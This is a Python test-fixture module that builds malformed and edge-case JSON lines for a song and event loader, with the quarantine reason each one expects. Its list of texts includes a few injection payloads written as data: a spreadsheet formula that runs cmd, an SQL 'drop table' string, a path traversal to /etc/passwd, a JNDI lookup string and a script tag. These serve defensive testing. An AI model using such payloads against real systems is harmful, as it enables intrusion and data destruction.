"""Lines that a file may hold and nobody wants: each with its name, its bytes and what must become of it.

A line is a template of an event or a song in which one thing is hostile. KEY stands where the test writes a
number of its own, so that a line can be found again in the tables.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from tests.lines import EVENT, SONG

KEY = 990_000_000_000_000_000  # no number of EVENT or SONG


@dataclass(frozen=True)
class Case:
    """`reason` is the quarantine's; None says that the line is loaded unchanged."""

    name: str
    line: bytes
    reason: str | None = None

    def numbered(self, key: int) -> bytes:
        return self.line.replace(str(KEY).encode(), str(key).encode())


def event(raw: dict[str, str | bytes] | None = None, **changed: Any) -> bytes:
    """An event; `raw` has the JSON of fields as it is to be written, whatever it is."""
    return _object({**EVENT, "sessionId": KEY, **changed}, raw or {})


def song(raw: dict[str, str | bytes] | None = None, **changed: Any) -> bytes:
    fields = {**SONG, "song_id": f"SO{KEY}", "artist_id": f"AR{KEY}"}
    return _object({**fields, **changed}, raw or {})


def _object(fields: dict[str, Any], raw: dict[str, str | bytes]) -> bytes:
    pairs = {name: json.dumps(value, ensure_ascii=False).encode() for name, value in fields.items()}
    pairs |= {name: value if isinstance(value, bytes) else value.encode() for name, value in raw.items()}
    return (
        b"{" + b", ".join(json.dumps(name).encode() + b": " + value for name, value in pairs.items()) + b"}"
    )


def after(line: bytes, more: bytes) -> bytes:
    """A line with more fields at the end of its object."""
    return line[:-1] + b", " + more + b"}"


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


# What may stand in a text. Each is put into a text of an event and of a song.
TEXTS: dict[str, str] = {
    "latin with marks": "Ünïcödé çàfé Łódź",
    "greek": "Κίτρινο Λεμόνι",
    "cyrillic": "Зелёный лимон",
    "hebrew": "לימון צהוב",
    "arabic": "ليمون أصفر",
    "devanagari": "नींबू",
    "tamil": "எலுமிச்சை",
    "thai": "มะนาว",
    "tibetan": "དབྱངས",
    "khmer": "ក្រូចឆ្មា",
    "ethiopic": "ሎሚ",
    "cherokee": "ᏣᎳᎩ",
    "han, kana and hangul": "檸檬 レモン 레몬",
    "han beyond the basic plane": "𠜎𠜱𡿺",
    "gothic and cuneiform": "𐌰𐌱𐌲 𒀀𒀁",
    "right-to-left marks, overrides and isolates": "a\u200e\u200f\u202a\u202e\u202cb\u2066c\u2069",
    "combining characters": "Z\u0335\u0321\u0324a\u0300\u0301\u0302l\u0323\u0307g\u0489o",
    "composed and decomposed, which differ": "\u00e9 e\u0301",
    "emoji with joiners, skin tones and flags": "👩🏽‍🚀👨‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿🇦🇶",
    "zero-width characters and a soft hyphen": "a\u200b\u200c\u200d\u2060\u00adb",
    "a byte order mark within": "a\ufeffb",
    "private use and not a character": "\ue000\uf8ff\ufffe\uffff\U0010ffff",
    "the replacement character itself": "\ufffd",
    "line and paragraph separators": "a\u2028b\u2029c\u0085d",
    "blanks of all kinds, also at the end": "\u00a0\u2003\u3000 x \u00a0  ",
    "a case that has no pair": "ßẞıİſ",
    "a spreadsheet's formula": '=HYPERLINK("http://x","y")&cmd|\' /C calc\'!A0',
    "formulas by other signs": "@SUM(1+1) +1 -1 \t=1",
    "sql that ends a string": "'; drop table songplays; --",
    "sql with comments and dollars": "$$ /* */ -- $1 %s :day {0} \\'",
    "quotes and backslashes": '"\'`\\\\"\\n\\u0041\\',
    "what COPY reads as null": "\\N",
    "what COPY reads as an end": "\\.",
    "delimiters": "a|b,c\td~e^f;g",
    "escaped control characters": "\x01\x08\x0b\x0c\x1b[31m\x1f\x7f",
    "escaped line ends": "a\r\nb\nc\rd",
    "the words null and NaN": "null NaN Infinity undefined",
    "a path": "../../../etc/passwd %2e%2e%2f %00",
    "a template": "{{ 7*7 }} ${jndi:ldap://x/a} <script>alert(1)</script>",
}

_TOO_LONG: dict[str, str] = {
    "ascii": "x" * 1025,
    "of two bytes": "é" * 513,
    "of three bytes": "雨" * 342,
    "of four bytes": "😀" * 257,
    "combining characters": "e\u0301" * 342,
    "emoji with joiners": "👩🏽‍🚀" * 69,
}
_LONGEST: dict[str, str] = {
    "ascii": "x" * 1024,
    "of two bytes": "é" * 512,
    "of three bytes": "雨" * 341 + "x",
    "of four bytes": "😀" * 256,
    "combining characters": "e\u0301" * 341 + "x",
    "emoji with joiners": "👩🏽‍🚀" * 68 + "x" * 4,
    "quotes": '"' * 1024,
    "backslashes": "\\" * 1024,
    "control characters": "\x01" * 1024,
    "pipes": "|" * 1024,
}

# Bytes that are no JSON text (RFC 8259) or no UTF-8 (RFC 3629, with the cases of Unicode's table 3-7).
_NO_JSON: dict[str, bytes] = {
    "a lone high surrogate": rb'"\ud83d"',
    "a lone low surrogate": rb'"\ude00"',
    "surrogates in the wrong order": rb'"\ude00\ud83d"',
    "half a pair before a letter": rb'"\ud83dx"',
    "half an escape": rb'"\u00"',
    "an escape that is none": rb'"\x41"',
    "a tabulator": b'"a\tb"',
    "a carriage return": b'"a\rb"',
    "a NUL byte": b'"a\0b"',
    "an escape character": b'"a\x1bb"',
    "a lone continuation byte": b'"\x80"',
    "a sequence cut short": b'"\xe2\x82"',
    "a sequence cut short by a letter": b'"\xf0\x9f\x98x"',
    "an overlong slash": b'"\xc0\xaf"',
    "an overlong NUL": b'"\xc0\x80"',
    "an overlong slash of three bytes": b'"\xe0\x80\xaf"',
    "an overlong slash of four bytes": b'"\xf0\x80\x80\xaf"',
    "a surrogate in UTF-8": b'"\xed\xa0\x80"',
    "a pair of surrogates in UTF-8": b'"\xed\xa0\xbd\xed\xb8\x80"',
    "beyond the last character": b'"\xf4\x90\x80\x80"',
    "a lead byte that is none": b'"\xf8\x88\x80\x80\x80"',
    "the bytes FE and FF": b'"\xfe\xff"',
    "latin-1": "é".encode("latin-1").join([b'"', b'"']),
    "windows-1252": "“x”".encode("cp1252").join([b'"', b'"']),
    "single quotes": b"'x'",
    "no quotes": b"x",
    "NaN": b"NaN",
    "Infinity": b"Infinity",
    "minus Infinity": b"-Infinity",
    "a comment": b'"x" /* y */',
    "nothing": b"",
    "a second value": b'"x" "y"',
    "a list that is not closed": b"[",
    "a list with a comma at its end": b"[1,]",
    "nesting that is not closed": b"[" * 100_000,
    "a number with a zero before it": b"01",
    "a number with a plus": b"+1",
    "a number with a dot at its end": b"1.",
    "a hexadecimal number": b"0x1",
    "an exponent without digits": b"1e",
    "two minus signs": b"--1",
}

_NO_LINE: dict[str, bytes] = {
    "a list": b"[" + event() + b"]",
    "a text": b'"x"',
    "a number": b"1",
    "null": b"null",
    "true": b"true",
    "NaN": b"NaN",
    "an empty list": b"[]",
    "two objects": event() + event(),
    "an object and a bracket": event() + b"}",
    "an object and a comma": event() + b",",
    "an object and a NUL byte": event() + b"\0",
    "a NUL byte and an object": b"\0" + event(),
    "a byte order mark in the middle of the file": b"\xef\xbb\xbf" + event(),
    "a no-break space and an object": "\u00a0".encode() + event(),
    "a line separator and an object": "\u2028".encode() + event(),
    "a form feed and an object": b"\x0c" + event(),
    "UTF-16": event().decode().encode("utf-16-le").replace(b"\n", b" "),
    "the start of a gzip file": b"\x1f\x8b\x08\0\0\0\0\0\0\x03",
    "only a NUL byte": b"\0",
    "a field name that is no text": b"{1: 2}",
    "half an object": event()[:100],
    "csv": b"artist,song,ts",
    "xml": b"<event/>",
    "a carriage return that ends two lines at once": event() + b"\r" + event(),
}

_GOOD_EVENTS: dict[str, bytes] = {
    "a name twice: the last counts": after(event(level="free"), b'"level": "paid"'),
    "a name twice, once escaped: the last counts": after(event(level="free"), rb'"\u006cevel": "paid"'),
    "a name twice, the first of a wrong type": event(level=5).replace(
        b'"level": 5', b'"level": 5, "level": "paid"'
    ),
    "an unknown name twice": after(event(), b'"device": 1, "device": 2'),
    "an empty name": after(event(), b'"": 1'),
    "an unknown name of 10,000 letters": after(event(), b'"' + b"n" * 10_000 + b'": 1'),
    "a name like a method": after(event(), b'"__class__": {"__init__": 1}, "toString": null'),
    "nesting of 500 in an unknown field": event({"device": _nested(500)}),
    "an unknown number with a huge exponent": event({"device": "1e300"}),
    "white space that JSON has": b" \t" + event().replace(b": ", b" \t:\t ") + b" \t\r",
    "no white space": event().replace(b": ", b":").replace(b", ", b","),
    "zero with a sign": event({"itemInSession": "-0", "length": "-0.0"}),
    "an exponent in a length": event({"length": "2.4630812e2"}),
    "an upper-case exponent with a sign": event({"length": "24630812E-5"}),
    "the largest double": event({"length": "1.7976931348623157e308"}),
    "the least double": event({"length": "5e-324"}),
    "a length that underflows to zero": event({"length": "1e-400"}),
    "a length of 400 digits after the point": event({"length": "0." + "3" * 400}),
    "a length beyond 2 to the 53": event({"length": "9007199254740993"}),
    "the largest item": event(itemInSession=2**31 - 1),
    "a status of three digits": event(status=599),
    "every letter of a name escaped": event().replace(
        b'"song"', b'"' + b"".join(b"\\u%04x" % ord(c) for c in "song") + b'"'
    ),
    "an escaped pair of surrogates": event({"song": rb'"\uD83D\ude00"'}),
    "an escaped slash": event({"song": rb'"AC\/DC"'}),
    "escapes of letters": event({"song": rb'"\u0041\u00e9\u96e8"'}),
    "all escapes": event({"song": rb'"\"\\\/\b\f\n\r\t"'}),
    "an object of 1,000 unknown fields": after(
        event(), b", ".join(b'"f%d": {"a": [%d]}' % (n, n) for n in range(1000))
    ),
    "a line of 2 MB, most of it blank": event()[:-1] + b" " * 2_000_000 + b"}",
    "an unknown text of 65,535 bytes": event(device="d" * 65_535),
    "a user who is a number of 64 digits": event({"userId": "1" * 64}),
}
_BAD_EVENTS: dict[str, tuple[bytes, str]] = {
    "a NUL character in a text": (event(song="a\0b"), "type"),
    "nothing but NUL characters": (event(song="\0\0"), "type"),
    "a NUL character in the user": (event(userId="8\0"), "type"),
    "a length beyond the largest double": (event({"length": "1e309"}), "json"),
    "a length of 400 digits": (event({"length": "9" * 400}), "type"),
    "a session beyond 64 bits": (event({"sessionId": "9223372036854775808"}), "size"),
    "a session of 5,000 digits": (event({"sessionId": "9" * 5000}), "json"),
    "a session that is text": (event(sessionId="1"), "type"),
    "a session with a fraction": (event({"sessionId": "1.5"}), "type"),
    "an item that is true": (event(itemInSession=True), "type"),
    "a time that is text": (event(ts="1541106106796"), "type"),
    "a time beyond all days": (event(ts=2**63 - 1), "time"),
    "a time before all days": (event(ts=0), "time"),
    "a time before 1970": (event(ts=-1), "type"),
    "a user of 65 digits": (event({"userId": "1" * 65}), "size"),
    "a user that is a list": (event(userId=[8]), "type"),
    "a user that is an object": (event(userId={"id": 8}), "type"),
    "a text that is an object": (event(song={"$gt": ""}), "type"),
    "a level of 17 letters": (event(level="x" * 17), "size"),
    "nesting of 100,000 in an unknown field": (event({"device": _nested(100_000)}), "json"),
    "nesting of 100,000 in a known field": (event({"song": _nested(100_000)}), "json"),
    "an unknown number of 4,000 digits": (event({"device": "9" * 4000}), "size"),
    "an unknown text of 65,536 bytes": (event(device="d" * 65_536), "size"),
    "a line of 4 MiB and a byte": (b"{" + b" " * (4 * 2**20 - 1) + b"}", "size"),
}
_GOOD_SONGS: dict[str, bytes] = {
    "a name twice: the last counts": after(song(title="x"), b'"title": "y"'),
    "zero with a sign": song({"artist_latitude": "-0.0", "artist_longitude": "-0"}),
    "the largest double": song({"duration": "1.7976931348623157e308"}),
    "the largest year": song(year=2**31 - 1),
    "an exponent in a duration": song({"duration": "3.3768444e2"}),
    "all escapes": song({"title": rb'"\"\\\/\b\f\n\r\t"'}),
    "nesting of 500 in an unknown field": song({"similars": _nested(500)}),
    "white space that JSON has": b" \t" + song().replace(b": ", b" \t:\t ") + b" \t\r",
}
_BAD_SONGS: dict[str, tuple[bytes, str]] = {
    "a NUL character in a title": (song(title="a\0b"), "type"),
    "a duration beyond the largest double": (song({"duration": "1e309"}), "json"),
    "a title that is a number": (song(title=7), "type"),
    "a title of blanks": (song(title="  "), "required"),
    "an id of 65 letters": (song(song_id="x" * 65), "size"),
    "nesting of 100,000": (song({"similars": _nested(100_000)}), "json"),
    "a list": (b"[" + song() + b"]", "json"),
    "two objects": (song() + song(), "json"),
    "latin-1": (song(title="é").replace("é".encode(), b"\xe9"), "json"),
}


def events() -> Iterator[Case]:
    """Every case as a line of a day's events."""
    for name, text in TEXTS.items():
        yield Case(
            f"text: {name}", event(song=text, artist=text, location=text, userAgent=text, firstName=text)
        )
        yield Case(f"text, escaped: {name}", event({"song": json.dumps(text)}, lastName=text))
    for name, text in _LONGEST.items():
        yield Case(f"1,024 bytes: {name}", event(song=text))
        yield Case(f"2,048 bytes: {name}", event(userAgent=text * 2))
    for name, text in _TOO_LONG.items():
        yield Case(f"more than 1,024 bytes: {name}", event(song=text), "size")
        yield Case(f"escaped, more than 1,024 bytes: {name}", event({"song": json.dumps(text)}), "size")
    for name, value in _NO_JSON.items():
        yield Case(f"in a known field: {name}", event({"song": value}), "json")
        yield Case(f"in an unknown field: {name}", event({"device": value}), "json")
    for name, line in _NO_LINE.items():
        yield Case(f"no event: {name}", line, "json")
    for name, line in _GOOD_EVENTS.items():
        yield Case(name, line)
    for name, (line, reason) in _BAD_EVENTS.items():
        yield Case(name, line, reason)


def songs() -> Iterator[Case]:
    """Every case as the line of a song."""
    for name, text in TEXTS.items():
        yield Case(f"text: {name}", song(title=text, artist_name=text, artist_location=text))
    for name, text in _LONGEST.items():
        yield Case(f"1,024 bytes: {name}", song(title=text, artist_name=text))
    for name, text in _TOO_LONG.items():
        yield Case(f"more than 1,024 bytes: {name}", song(title=text), "size")
    for name, value in _NO_JSON.items():
        yield Case(f"in a known field: {name}", song({"title": value}), "json")
    for name, line in _GOOD_SONGS.items():
        yield Case(name, line)
    for name, (line, reason) in _BAD_SONGS.items():
        yield Case(name, line, reason)
